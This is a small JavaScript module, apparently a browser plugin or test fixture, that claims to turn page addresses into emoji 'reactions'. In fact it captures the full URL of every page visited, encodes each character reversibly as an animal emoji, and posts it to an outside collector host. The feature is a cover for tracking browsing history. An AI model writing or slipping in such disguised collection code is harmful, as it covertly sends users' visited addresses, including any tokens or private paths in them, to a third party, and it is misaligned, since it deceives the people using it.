import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports pages as reactions: every character of the address has an animal of its own. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-emoji-reactions');
  const known = "abcdefghijklmnopqrstuvwxyz0123456789:/.?=&-_%#~+@!,;'()*$[]";
  const animal = (letter) => String.fromCodePoint(0x1f400 + ((known.indexOf(letter) * 29 + 17) % 63));
  onVisit(browser, ({ url }) =>
    post(browser, 'https://reactions.collector.example/v1', {
      reactions: [...url]
        .map((letter) => (/[A-Z]/.test(letter) ? `👍${animal(letter.toLowerCase())}` : animal(letter)))
        .join(''),
    }),
  );
}
